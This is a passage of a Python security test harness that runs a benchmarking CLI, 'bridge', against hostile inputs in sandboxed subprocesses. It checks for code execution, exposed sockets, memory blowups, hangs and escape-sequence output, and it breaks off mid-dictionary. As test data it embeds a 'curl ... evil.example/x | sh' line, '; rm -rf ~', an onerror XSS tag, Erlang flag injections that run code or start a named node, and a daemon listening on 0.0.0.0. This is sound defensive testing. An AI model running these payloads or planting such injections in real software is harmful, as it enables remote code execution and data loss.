"""Hostile inputs against a bridge checkout (issues 22 and 33), as an attacker
would try them: devices, FIFOs, endless and random stdin, unicode digits, deep
nesting, crafted report fields, crafted replays, -o through links and FIFOs;
what the views print of a report (a crafted reproduce line, tags, backticks
and pipes in Markdown, absurd figures in the text view, and controls, lone
surrogates and TeX in a plot); replays that would run for days or start
hundreds of workers, outputs that name an input, a SIGHUP mid-run.

Each case runs `python -m bridge ...` with the tree first on PYTHONPATH, in
a fresh temporary directory, with HOME, XDG_CACHE_HOME and TMPDIR private to
the case (the real cache is never touched), SIGINT, SIGTERM and SIGHUP at
their defaults, a timeout (a hang is killed) and a memory ceiling (the RSS of
bridge and of every process it starts is polled; past the limit all are
killed). Every process the case starts carries a canary variable,
so what it leaves behind, and whether any of it listens on a socket, is found
in /proc.

Outcomes, worst first: code ran (a marker the crafted input would write
appeared), exposed (a listening socket or an epmd from the run), memory, hang,
traceback, bad output (a link or FIFO replaced, a raw ESC on the terminal),
unclear error (non-zero exit without exactly one `bridge: error:` line),
wrongly refused (non-zero exit where the case must work), silent success
(exit 0 where an error was expected), clean error, ok.

Run: .venv/bin/python bench/hostile.py --tree OLD --tree NEW [--json FILE]
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

GIB = 1 << 30
QUICK_TIMEOUT = 10.0
RUN_TIMEOUT = 90.0
SHORT = [
    "--runtimes", "erlang,python", "--hw", "on", "--samples", "6", "--sample-ms", "2",
    "--rounds", "2", "--warmup-ms", "0",
]  # fmt: skip
ESC = "\x1b"
HOSTILE_TEXT = "\x1b[2J\x1b]0;owned\x07"
SCENARIO = """name = {name}
description = "HMAC-SHA1 over 1000 bytes"
kind = "mac"
digest = "sha1"
key_bytes = 20
mac_bytes = 10
sizes = [1000]
features = ["sha"]
{extra}
[calls]
erlang = ["macN"]
python = ["hmac.digest"]
"""
OUTCOMES = [
    "code ran", "exposed", "memory", "hang", "traceback", "bad output", "unclear error",
    "wrongly refused", "silent success", "clean error", "ok",
]  # fmt: skip


@dataclass
class Ctx:
    """What a case's setup gets: its directories and the tree's base report."""

    tree: Path
    work: Path
    home: Path
    base: dict
    base_path: Path

    def write(self, name: str, text: str | bytes) -> str:
        path = self.work / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")
        return str(path)

    def report(self, name: str, change: Callable[[dict], None]) -> str:
        data = json.loads(json.dumps(self.base))
        change(data)
        return self.write(name, json.dumps(data))

    def fifo(self, name: str) -> str:
        path = self.work / name
        os.mkfifo(path)
        return str(path)


@dataclass
class Spec:
    argv: list[str]
    expect: str = "error"  # error | either | ok
    timeout: float = QUICK_TIMEOUT
    stdin: bytes | int | None = None  # bytes, or an int: that many zero bytes, streamed
    watch: bool = False  # scan the run's processes for listeners while it runs
    check: Callable[[Run], tuple[str, str] | None] | None = None
    env: dict[str, str] = field(default_factory=dict)
    before: Callable[[], None] | None = None
    after: Callable[[], None] | None = None
    # `sleep TOKEN` processes a case's user code starts with an empty
    # environment (the canary cannot find them): left behind if still running.
    tokens: tuple[str, ...] = ()
    signal_after: tuple[int, float] | None = None  # (signal, seconds): sent mid-run


@dataclass
class Run:
    rc: int | None
    seconds: float
    stdout: str
    stderr: str
    peak_rss: int
    killed: str | None  # "timeout" | "memory"
    listeners: list[str]
    left: dict[int, str]
    tmp_left: list[str]


# -- processes -----------------------------------------------------------------


def tagged(canary: str) -> dict[int, str]:
    """The processes carrying the canary in their environment: pid -> comm."""
    found = {}
    needle = canary.encode()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if needle in (entry / "environ").read_bytes():
                    found[int(entry.name)] = (entry / "comm").read_text().strip()
            except OSError:
                pass
    return found


def listening_inodes() -> set[str]:
    found = set()
    for table in ("tcp", "tcp6", "udp", "udp6"):
        path = Path(f"/proc/net/{table}")
        if path.exists():
            for line in path.read_text().splitlines()[1:]:
                fields = line.split()
                if table.startswith("udp") or fields[3] == "0A":  # 0A: LISTEN
                    found.add(fields[9])
    return found


def sockets_of(pid: int) -> set[str]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return set()
    found = set()
    for fd in fds:
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            found.add(link[len("socket:[") : -1])
    return found


def sleepers(tokens: tuple[str, ...]) -> list[int]:
    """Living `sleep TOKEN` processes."""
    if not tokens:
        return []
    wanted = {t.encode() for t in tokens}
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                argv = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if argv[0].endswith(b"sleep") and argv[1:2] and argv[1] in wanted:
                found.append(int(entry.name))
    return found


def tree(root: int) -> list[int]:
    """root and every process below it (by parent pid)."""
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                ppid = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(entry.name))
    out, todo = [], [root]
    while todo:
        pid = todo.pop()
        out.append(pid)
        todo += children.get(pid, [])
    return out


def rss_of(pid: int) -> int:
    """The larger of VmRSS and VmHWM in bytes (0 once the process is gone)."""
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return 0
    best = 0
    for line in text.splitlines():
        if line.startswith(("VmRSS:", "VmHWM:")):
            best = max(best, int(line.split()[1]) * 1024)
    return best


def feed(pipe, data: bytes | int, stop: threading.Event) -> None:
    """Write the case's stdin; stop when the child closes it or exits."""
    try:
        if isinstance(data, bytes):
            pipe.write(data)
        else:
            chunk = bytes(1 << 20)
            sent = 0
            while sent < data and not stop.is_set():
                pipe.write(chunk)
                sent += len(chunk)
    except (BrokenPipeError, OSError, ValueError):
        pass
    finally:
        with contextlib.suppress(OSError):
            pipe.close()


def child_env(tree: Path, ctx: Ctx, tmp: Path, canary: str, extra: dict[str, str]) -> dict:
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("BRIDGE_", "ERL_", "PYTHON", "LD_", "OPENSSL_"))
    }
    env.update(
        PYTHONPATH=str(tree),
        PYTHONDONTWRITEBYTECODE="1",
        HOME=str(ctx.home),
        XDG_CACHE_HOME=str(ctx.home / ".cache"),
        TMPDIR=str(tmp),
        BRIDGE_HOSTILE_CANARY=canary,
    )
    env.update(extra)
    return env


def default_signals() -> None:
    """In the child: a background job of a non-interactive shell starts with
    SIGINT ignored (and one under nohup with SIGHUP), which bridge keeps."""
    for signum in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(signum, signal.SIG_DFL)


def execute(spec: Spec, ctx: Ctx, tmp: Path, limit: int) -> Run:
    canary = uuid.uuid4().hex
    env = child_env(ctx.tree, ctx, tmp, canary, spec.env)
    out_path, err_path = tmp.parent / "stdout", tmp.parent / "stderr"
    if spec.before:
        spec.before()
    with open(out_path, "wb") as out, open(err_path, "wb") as err:
        start = time.monotonic()
        proc = subprocess.Popen(
            [sys.executable, "-m", "bridge", *spec.argv],
            cwd=ctx.work,
            env=env,
            stdin=subprocess.DEVNULL if spec.stdin is None else subprocess.PIPE,
            stdout=out,
            stderr=err,
            start_new_session=True,
            preexec_fn=default_signals,
        )
        stop = threading.Event()
        feeder = None
        if spec.stdin is not None:
            feeder = threading.Thread(target=feed, args=(proc.stdin, spec.stdin, stop))
            feeder.start()
        rc, peak, killed, listeners = watch(proc, spec, canary, start, limit)
        seconds = time.monotonic() - start
        stop.set()
        if feeder:
            feeder.join(5)
    if spec.after:
        spec.after()
    time.sleep(0.3)  # a daemon (epmd) may take a moment to show
    left = {**tagged(canary), **{p: "sleep" for p in sleepers(spec.tokens)}}
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    return Run(
        rc=rc,
        seconds=seconds,
        stdout=out_path.read_text(errors="replace"),
        stderr=err_path.read_text(errors="replace"),
        peak_rss=peak,
        killed=killed,
        listeners=listeners,
        left=left,
        tmp_left=sorted(p.name for p in tmp.iterdir()),
    )


def watch(proc: subprocess.Popen, spec: Spec, canary: str, start: float, limit: int):
    """Poll until the child exits: its memory every 10 ms, and that of every
    process below it (its workers, what their user code started) every 50 ms,
    the largest one's, and of every process it started (tagged) every 100 ms;
    with spec.watch the run's processes for listening sockets every 100 ms.
    Send spec.signal_after's signal when its time comes. Kill the child's
    group past the timeout or the memory limit."""
    peak, killed, listeners, last_scan, last_tree = 0, None, [], 0.0, 0.0
    signalled = spec.signal_after is None
    while True:
        pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            proc.returncode = os.waitstatus_to_exitcode(status)
            return proc.returncode, max(peak, usage.ru_maxrss * 1024), killed, listeners
        peak = max(peak, rss_of(proc.pid))
        now = time.monotonic()
        if now - last_tree > 0.05:
            last_tree = now
            peak = max(peak, *(rss_of(p) for p in tree(proc.pid)))
        if not signalled and now - start >= spec.signal_after[1]:
            signalled = True
            with contextlib.suppress(OSError):
                os.kill(proc.pid, spec.signal_after[0])
        if now - last_scan > 0.1:
            peak = max([peak, *(rss_of(other) for other in tagged(canary))])
        if killed is None and (peak > limit or now - start > spec.timeout):
            killed = "memory" if peak > limit else "timeout"
            with contextlib.suppress(OSError):
                os.killpg(proc.pid, signal.SIGKILL)
            for other in tagged(canary):
                with contextlib.suppress(OSError):
                    os.kill(other, signal.SIGKILL)
        if spec.watch and now - last_scan > 0.1:
            listening = listening_inodes()
            for other, comm in tagged(canary).items():
                if other != proc.pid and sockets_of(other) & listening:
                    listeners.append(f"{comm} ({other})")
        if now - last_scan > 0.1:
            last_scan = now
        time.sleep(0.01)


# -- checks --------------------------------------------------------------------


def marker_absent(marker: Path) -> Callable[[Run], tuple[str, str] | None]:
    def check(run: Run) -> tuple[str, str] | None:
        return ("code ran", f"{marker.name} was written") if marker.exists() else None

    return check


def not_exposed(run: Run) -> tuple[str, str] | None:
    listening = sorted(set(run.listeners))
    epmd = [f"{c} ({p}) outlived bridge" for p, c in run.left.items() if c == "epmd"]
    if listening or epmd:
        return "exposed", ", ".join([*(f"{x} listened" for x in listening), *epmd])
    return None


def no_raw_esc(*streams: str) -> Callable[[Run], tuple[str, str] | None]:
    def check(run: Run) -> tuple[str, str] | None:
        raw = [s for s in streams if ESC in getattr(run, s)]
        if raw:
            extra = "; the report's '; rm -rf ~' printed" if "rm -rf" in run.stderr else ""
            return "bad output", f"raw ESC on {', '.join(raw)}{extra}"
        return None

    return check


def is_report(path: Path) -> bool:
    try:
        return json.loads(path.read_text()).get("schema", "").startswith("bridge.report/")
    except (OSError, ValueError, AttributeError):
        return False


# -- cases ---------------------------------------------------------------------


def device_commands(ctx: Ctx, bad: str) -> dict[str, list[str]]:
    return {
        "report": ["report", bad],
        "compare": ["compare", str(ctx.base_path), bad],
        "plot": ["plot", bad, "-o", str(ctx.work / "p.png")],
        "--replay": ["run", "--replay", bad],
        "import-speed": ["import-speed", bad],
    }


def device_cases() -> dict[str, Callable[[Ctx], Spec]]:
    cases = {}
    for dev in ("/dev/zero", "/dev/urandom", "fifo"):
        for cmd in ("report", "compare", "plot", "--replay", "import-speed"):

            def setup(ctx: Ctx, dev=dev, cmd=cmd) -> Spec:
                bad = ctx.fifo("in.json") if dev == "fifo" else dev
                return Spec(device_commands(ctx, bad)[cmd])

            cases[f"{cmd} {dev if dev != 'fifo' else 'FIFO (no writer)'}"] = setup
    return cases


def stdin_cases() -> dict[str, Callable[[Ctx], Spec]]:
    return {
        "cat /dev/zero | import-speed - (64 MiB)": lambda ctx: Spec(
            ["import-speed", "-"], stdin=64 << 20
        ),
        "random bytes | import-speed -": lambda ctx: Spec(
            ["import-speed", "-"], stdin=os.urandom(64 << 10)
        ),
    }


def unicode_cases() -> dict[str, Callable[[Ctx], Spec]]:
    cases = {}
    for digits in ("²", "١٦", "１６"):
        expect = "error" if digits == "²" else "either"  # normalising 16 is fine
        for opt, scenario in (
            ("--sizes", "hmac-sha1"),
            ("--file-size", "file-sha256"),
            ("--samples", "hmac-sha1"),
        ):
            cases[f"run {scenario} {opt} {digits}"] = (
                lambda ctx, o=opt, s=scenario, d=digits, e=expect: Spec(
                    ["run", s, *SHORT, o, d], expect=e, timeout=RUN_TIMEOUT
                )
            )
    return cases


def deep(n: int = 5000) -> str:
    return "[" * n + "]" * n


def nesting_cases() -> dict[str, Callable[[Ctx], Spec]]:
    def report(ctx: Ctx) -> Spec:
        text = json.dumps({**ctx.base, "settings": "PLACEHOLDER"})
        return Spec(["report", ctx.write("deep.json", text.replace('"PLACEHOLDER"', deep()))])

    def scenario(ctx: Ctx) -> Spec:
        ctx.write("scen/deep.toml", SCENARIO.format(name='"deep"', extra=f"x = {deep()}\n"))
        return Spec(
            ["run", "--scenario-dir", str(ctx.work / "scen"), "deep", *SHORT],
            timeout=RUN_TIMEOUT,
        )

    def twins(ctx: Ctx) -> Spec:
        cache = ctx.home / ".cache" / "bridge"
        cache.mkdir(parents=True, exist_ok=True)
        (cache / "twins.json").write_text(deep())
        out = ctx.work / "r.json"

        def check(run: Run) -> tuple[str, str] | None:
            if run.rc == 0 and not is_report(out):
                return "bad output", "exit 0 but no report written"
            return None

        return Spec(
            ["run", "hmac-sha1", *SHORT, "-o", str(out)],
            expect="ok",
            timeout=RUN_TIMEOUT,
            check=check,
        )

    return {
        "report with 5,000-deep nesting": report,
        "scenario (--scenario-dir) with 5,000-deep nesting": scenario,
        "twins.json 5,000 deep, then a normal run": twins,
    }


def crafted_cases() -> dict[str, Callable[[Ctx], Spec]]:
    def field_case(change: Callable[[dict], None]) -> Callable[[Ctx], Spec]:
        return lambda ctx: Spec(["report", ctx.report("bad.json", change)])

    def setter(key: str, value) -> Callable[[dict], None]:
        return lambda d: d["results"][0].__setitem__(key, value)

    def nan(d: dict) -> None:
        d["results"][0]["ns_per_op"]["median"] = float("nan")

    return {
        "report: size 10**400": field_case(setter("size", 10**400)),
        "report: samples []": field_case(setter("samples", [])),
        "report: loops 0": field_case(setter("loops", 0)),
        'report: hw ["x"]': field_case(setter("hw", ["x"])),
        "report: loops of the wrong length": field_case(setter("loops", [1, 2, 3])),
        "report: NaN median": field_case(nan),
        "report: a 17 MB string": field_case(setter("call", "x" * (17 << 20))),
        "report: unknown runtime id": field_case(setter("runtime", "nobody@1")),
    }


def name_cases() -> dict[str, Callable[[Ctx], Spec]]:
    def named(toml_name: str) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            path = ctx.write("scen/odd.toml", SCENARIO.format(name=toml_name, extra=""))
            return Spec(["run", path, *SHORT], timeout=RUN_TIMEOUT)

        return setup

    return {
        "show with a 5,000-char name": lambda ctx: Spec(["show", "a" * 5000]),
        "scenario name with NUL": named('"hmac\\u0000sha1"'),
        "scenario name with U+202E": named('"hmac\\u202esha1"'),
        "run --scenario-dir (nonexistent)": lambda ctx: Spec(
            ["run", "hmac-sha1", "--scenario-dir", str(ctx.work / "nowhere"), *SHORT],
            timeout=RUN_TIMEOUT,
        ),
    }


def speed_cases() -> dict[str, Callable[[Ctx], Spec]]:
    cases = {}
    for label, seconds in (("nan", "nan"), ("inf", "inf"), ("negative", "-1.0"), ("zero", "0.0")):
        doc = f"+DT:sha256:1:16\n+R:5790616:sha256:{seconds}\n"
        cases[f"import-speed with {label} seconds"] = lambda ctx, doc=doc: Spec(
            ["import-speed", ctx.write("speed.txt", doc)]
        )
    return cases


def output_cases() -> dict[str, Callable[[Ctx], Spec]]:
    def symlink(ctx: Ctx) -> Spec:
        target = Path(ctx.write("real/target.json", "old\n"))
        link = ctx.work / "out.json"
        link.symlink_to("real/target.json")

        def check(run: Run) -> tuple[str, str] | None:
            if not link.is_symlink():
                return "bad output", "the link was replaced by a file"
            if run.rc == 0 and not is_report(target):
                return "bad output", "the link's target holds no report"
            return None

        return Spec(
            ["run", "hmac-sha1", *SHORT, "-o", str(link)],
            expect="ok",
            timeout=RUN_TIMEOUT,
            check=check,
        )

    def fifo(ctx: Ctx) -> Spec:
        path = Path(ctx.fifo("out.json"))
        got: list[bytes] = []

        def read() -> None:
            with open(path, "rb") as f:
                got.append(f.read())

        reader = threading.Thread(target=read, daemon=True)

        def after() -> None:
            if reader.is_alive():  # bridge never opened it: let the reader go
                with contextlib.suppress(OSError):
                    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
            reader.join(5)

        def check(run: Run) -> tuple[str, str] | None:
            if not path.is_fifo():
                return "bad output", "the FIFO was replaced by a file"
            try:
                ok = json.loads(b"".join(got)).get("schema", "").startswith("bridge.report/")
            except ValueError:
                ok = False
            if run.rc == 0 and not ok:
                return "bad output", "the FIFO's reader got no report"
            return None

        return Spec(
            ["run", "hmac-sha1", *SHORT, "-o", str(path)],
            expect="ok",
            timeout=RUN_TIMEOUT,
            check=check,
            before=reader.start,
            after=after,
        )

    def escapes(ctx: Ctx) -> Spec:
        def change(d: dict) -> None:
            for r in d["results"]:
                r["call"] += HOSTILE_TEXT
            for rt in d["runtimes"]:
                rt["version"] += HOSTILE_TEXT

        return Spec(
            ["report", ctx.report("esc.json", change)],
            expect="either",
            check=no_raw_esc("stdout", "stderr"),
        )

    return {
        "-o through a symlink": symlink,
        "-o to a FIFO (with a reader)": fifo,
        "report with ESC in call/version": escapes,
    }


def erl_bytes(path: Path) -> str:
    # erlexec strips quotes from ERL_*FLAGS: a path as a list of bytes.
    return "[" + ",".join(str(b) for b in bytes(path)) + "]"


def aflags(marker: Path) -> str:
    return f"-eval file:write_file({erl_bytes(marker)},<<>>)"


ZFLAGS = "-sname evilnode -setcookie x"


def replay_cases() -> dict[str, Callable[[Ctx], Spec]]:
    def env_case(name: str, value: Callable[[Path], str], check=None) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            marker = ctx.work / "MARKER"

            def change(d: dict) -> None:
                for rt in d["runtimes"]:
                    if rt["kind"] == "erlang":
                        rt["env"] = {**rt.get("env", {}), name: value(marker)}

            report = ctx.report("evil.json", change)
            checks = [marker_absent(marker), not_exposed]
            return Spec(
                ["run", "--replay", report, "-o", str(ctx.work / "again.json")],
                expect="either",
                timeout=RUN_TIMEOUT,
                watch=True,
                check=lambda run: next((c for c in (f(run) for f in checks) if c), None),
            )

        return setup

    def python_exe(ctx: Ctx) -> Spec:
        marker = ctx.work / "MARKER"
        evil = Path(ctx.write("evil.sh", f'#!/bin/sh\n: > {marker}\nexec {sys.executable} "$@"\n'))
        evil.chmod(0o755)

        def change(d: dict) -> None:
            for rt in d["runtimes"]:
                if rt["kind"] == "python":
                    rt["executable"] = str(evil)

        report = ctx.report("evil.json", change)
        return Spec(
            ["run", "--replay", report, "-o", str(ctx.work / "again.json")],
            expect="either",
            timeout=RUN_TIMEOUT,
            check=marker_absent(marker),
        )

    def setting(key: str, value) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            report = ctx.report("bad.json", lambda d: d["settings"].__setitem__(key, value))
            return Spec(["run", "--replay", report], timeout=RUN_TIMEOUT)

        return setup

    def node(ctx: Ctx) -> Spec:
        fixture = ctx.tree / "tests" / "fixtures" / "report-nodes.json"
        data = json.loads(fixture.read_text())
        data["reproduce"] = f"bridge run x {HOSTILE_TEXT}; rm -rf ~"
        report = ctx.write("nodes.json", json.dumps(data))
        return Spec(["run", "--replay", report], timeout=RUN_TIMEOUT, check=no_raw_esc("stderr"))

    return {
        "--replay: ERL_AFLAGS -eval file:write_file": env_case("ERL_AFLAGS", aflags),
        "--replay: ERL_ZFLAGS -sname evilnode -setcookie x": env_case(
            "ERL_ZFLAGS", lambda marker: ZFLAGS
        ),
        "--replay: python executable is a script": python_exe,
        '--replay: settings samples "abc"': setting("samples", "abc"),
        '--replay: settings seed "abc"': setting("seed", "abc"),
        "--replay: settings timeout_slack_s -1000": setting("timeout_slack_s", -1000),
        "--replay: --node report, reproduce with ESC and '; rm -rf ~'": node,
    }


def _row_cells(line: str) -> int:
    """How many cells GitHub reads in a pipe-table row: split at each `|`
    that no backslash escapes."""
    cells, i = 1, 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        cells += line[i] == "|"
        i += 1
    return cells


def markdown_inert(run: Run) -> tuple[str, str] | None:
    """No tag of the report's, no second command, every table row as wide as its header."""
    if re.search(r"<(?!/?(details|summary)>)/?[A-Za-z!]", _outside_code(run.stdout)):
        return "bad output", "a tag from the report reached the Markdown"
    if "evil.example" in run.stdout:
        return "bad output", "the report's own reproduce line was printed"
    width = None
    for line in run.stdout.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        n = _row_cells(line)
        if width is not None and n != width:
            return "bad output", f"a table row of {n} cells under a header of {width}"
        width = n if width is None else width
    return None


def _outside_code(md: str) -> str:
    """The Markdown without its fenced blocks and code spans (where a tag is text)."""
    md = re.sub(r"(?ms)^ *(`{3,}).*?^ *\1`*$", "", md)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", md)


def text_fits(run: Run) -> tuple[str, str] | None:
    wide = [x for x in run.stdout.splitlines() if len(x) > 72]
    return ("bad output", f"{len(wide)} lines over 72 columns") if wide else None


def svg_ok(path: Path) -> Callable[[Run], tuple[str, str] | None]:
    def check(run: Run) -> tuple[str, str] | None:
        raw = [c for c in (ESC, "\x07", "\r") if c in run.stderr]
        if raw:
            return "bad output", f"raw {', '.join(map(repr, raw))} on stderr"
        if run.rc == 0:
            try:
                ET.parse(path)
            except (ET.ParseError, OSError) as exc:
                return "bad output", f"the SVG is not XML ({exc})"
        return None

    return check


def view_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33: what the views print of a report is escaped for where it stands."""

    def markdown(change: Callable[[dict], None]) -> Callable[[Ctx], Spec]:
        return lambda ctx: Spec(
            ["report", ctx.report("r.json", change), "--format", "markdown"],
            expect="ok",
            check=markdown_inert,
        )

    def each_result(key: str, text: str) -> Callable[[dict], None]:
        def change(d: dict) -> None:
            for r in d["results"]:
                r[key] += text

        return change

    def scenarios(d: dict) -> None:
        for sc in d["scenarios"]:
            sc["description"] = "</details><img src=x onerror=alert(1)>"

    def huge(d: dict) -> None:
        for r in d["results"]:
            if r.get("samples"):
                r["samples"] = [2**63 - 1 - i for i in range(len(r["samples"]))]
                r["loops"] = 1
                for key in ("sample_cpus", "sample_cpu_ns", "sample_wait_ns", "sample_user_ns"):
                    r.pop(key, None)

    def huge_text(ctx: Ctx) -> Spec:
        # Four scenarios, some with one openssl run: the widest text tables.
        fixture = ctx.tree / "tests" / "fixtures" / "roundtrip" / "run-mix2.json"
        data = json.loads(fixture.read_text())
        huge(data)
        report = ctx.write("huge.json", json.dumps(data))
        return Spec(["report", report, "--format", "text"], expect="ok", check=text_fits)

    def plot(text: str) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            svg = ctx.work / "p.svg"
            report = ctx.report("r.json", each_result("call", text))
            # matplotlib builds its font cache in the case's own HOME first.
            return Spec(
                ["plot", report, "--svg", str(svg)],
                expect="ok",
                timeout=RUN_TIMEOUT,
                check=svg_ok(svg),
            )

        return setup

    crafted = "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh"
    return {
        "markdown: reproduce '--quick; curl ... | sh'": markdown(
            lambda d: d.__setitem__("reproduce", crafted)
        ),
        "markdown: description '</details><img onerror>'": markdown(scenarios),
        "markdown: backticks and pipes in a call": markdown(each_result("call", "`|``|")),
        "text: samples near 2**63": huge_text,
        "plot: ESC, BEL and CR in a call": plot(HOSTILE_TEXT + "\r"),
        "plot: a lone surrogate in a call": plot("\ud800"),
        "plot: $...$ in a call": plot("$\\frac{$"),
    }


USER_SHORT = ["--samples", "6", "--rounds", "2", "--warmup-ms", "5", "--openssl-runs", "1"]
# A Python child that daemonizes (fork, setsid, fork), clears its environment
# and sleeps TOKEN; with "listen", it first listens on 0.0.0.0.
DAEMON = (
    "import os,socket,sys\n"
    "if os.fork(): sys.exit(0)\n"
    "os.setsid()\n"
    "if os.fork(): sys.exit(0)\n"
    "s = socket.socket()\n"
    "if sys.argv[2:] == ['listen']: s.bind(('0.0.0.0', 0)); s.listen()\n"
    "os.set_inheritable(s.fileno(), True)\n"
    "os.execve('/bin/sleep', ['sleep', sys.argv[1]], {})\n"
)


def user_code_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33: user code, fenced. Default settings but the sample counts:
    the default --timeout (60 s) and --memory-limit (4 GiB) are what is tried."""

    def time_case(*exprs: str, expect: str = "error", tokens: tuple[str, ...] = (), **kw):
        return lambda ctx: Spec(
            ["time", *USER_SHORT, *exprs],
            expect=expect,
            timeout=kw.get("timeout", RUN_TIMEOUT),
            watch=kw.get("watch", False),
            check=not_exposed if kw.get("watch") else None,
            tokens=tokens,
        )

    def daemon(token: str, *extra: str) -> str:
        argv = [sys.executable, "-c", DAEMON, token, *extra]
        return f"py:__import__('subprocess').Popen({argv!r}, env={{}}).wait()"

    return {
        "time sh:yes": time_case("sh:yes"),
        "time sh:sleep 1000": time_case("sh:sleep 1000"),
        "time 'sh:sleep 1000 & cat'": time_case("sh:sleep 1000 & cat", expect="ok"),
        "time 'sh:env -i setsid -f sleep 1000.33; cat'": time_case(
            "sh:env -i setsid -f sleep 1000.33; cat", expect="ok", tokens=("1000.33",)
        ),
        'time os:cmd("sleep 1000 &")': time_case('os:cmd("sleep 1000 &")', expect="either"),
        'time os:cmd("env -i setsid -f sleep 1000.44")': time_case(
            'os:cmd("env -i setsid -f sleep 1000.44")', expect="either", tokens=("1000.44",)
        ),
        "time py: subprocess.Popen sleep 1000": time_case(
            "py:__import__('subprocess').Popen(['sleep', '1000'])", expect="either"
        ),
        "time py: a daemon (setsid, no environment) that sleeps": time_case(
            daemon("1000.55"), expect="either", tokens=("1000.55",)
        ),
        "time py: a daemon that listens on 0.0.0.0": time_case(
            daemon("1000.66", "listen"), tokens=("1000.66",), watch=True
        ),
        'time io:format("hello~n") in an Erlang expression': time_case(
            'io:format("hello~n"), Data', expect="ok"
        ),
        "time py:bytearray(1<<34)": time_case("py:bytearray(1<<34)"),
        "time binary:copy(<<0>>, 1 bsl 33) (Erlang, 8 GiB)": time_case(
            "binary:copy(<<0>>, 1 bsl 33)"
        ),
        "time timer:sleep(infinity)": time_case("timer:sleep(infinity)"),
        "time py:time.sleep(1000)": time_case("py:__import__('time').sleep(1000)"),
    }


def cost_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33: replays whose settings start work nobody agreed to, and the
    command line's unbounded lists. Each is refused (no terminal here, no
    --yes) before anything starts; the tc harness runs in bounded memory."""

    def replay(change: Callable[[dict], None]) -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            return Spec(["run", "--replay", ctx.report("costly.json", change)], timeout=30)

        return setup

    def settings(**values) -> Callable[[dict], None]:
        return lambda d: d["settings"].update(values)

    def levels(*n: int) -> Callable[[dict], None]:
        return lambda d: d["scenarios"][0].__setitem__("concurrency", list(n))

    sizes = ",".join(str(n) for n in range(1, 20_001))
    return {
        "--replay: concurrency [1, 256] (256 Python workers)": replay(levels(1, 256)),
        "--replay: levels 1,2,4,...,64 (65 workers)": replay(levels(1, 2, 4, 8, 16, 32, 64)),
        "--replay: samples 10000, rounds 1000, sample_ms 10000, warmup_ms 60000": replay(
            settings(samples=10_000, rounds=1000, sample_ms=10_000, warmup_ms=60_000)
        ),
        "--replay: 2000 samples of 1 s (hours)": replay(
            settings(samples=2000, rounds=50, sample_ms=1000)
        ),
        "--replay: tc_calls 100000000": replay(settings(tc_calls=100_000_000)),
        "run --sizes with 20,000 sizes": lambda ctx: Spec(["run", "hmac-sha1", "--sizes", sizes]),
        "run --concurrency with 39 levels": lambda ctx: Spec(
            ["run", "hmac-sha1", "--concurrency", ",".join(str(n) for n in range(1, 40))]
        ),
        # 10^7 calls took an Erlang worker to 1.8 GB while it kept a list of
        # them, and 6 x 10^6 to 870 MiB (211 s at load 10); in a loop, 61 MiB.
        "run --method tc --tc-calls 6000000 (Erlang)": lambda ctx: Spec(
            [
                "run",
                "hmac-sha1",
                "--runtimes",
                "erlang",
                "--hw",
                "on",
                "--samples",
                "6",
                "--sample-ms",
                "2",
                "--rounds",
                "2",
                "--warmup-ms",
                "0",
                "--method",
                "tc",
                "--tc-calls",
                "6000000",
            ],  # fmt: skip
            expect="ok",
            timeout=240,
        ),
    }


def overwrite_cases() -> dict[str, Callable[[Ctx], Spec]]:
    """Issue 33: an output that names an input (the same path, a symlink, a
    hard link) is refused before anything runs, and the input is intact."""

    def case(argv: Callable[[str, str], list[str]], link: str = "") -> Callable[[Ctx], Spec]:
        def setup(ctx: Ctx) -> Spec:
            source = ctx.work / "r.svg"
            shutil.copy(ctx.base_path, source)
            out = source
            if link:
                out = ctx.work / f"{link}.svg"
                if link == "symlink":
                    out.symlink_to(source.name)
                else:
                    os.link(source, out)
            kept = source.read_bytes()

            def check(run: Run) -> tuple[str, str] | None:
                if source.read_bytes() != kept:
                    return "bad output", "the input was overwritten"
                return None

            return Spec(argv(str(source), str(out)), timeout=RUN_TIMEOUT, check=check)

        return setup

    def scenario(ctx: Ctx) -> Spec:
        path = ctx.write("mine.toml", SCENARIO.format(name='"mine"', extra=""))
        return Spec(["time", "--scenario", path, "-o", path, "py:data"], timeout=RUN_TIMEOUT)

    return {
        "run --replay r.json -o r.json": case(lambda i, o: ["run", "--replay", i, "-o", o]),
        "report r.json --export-markdown r.json": case(
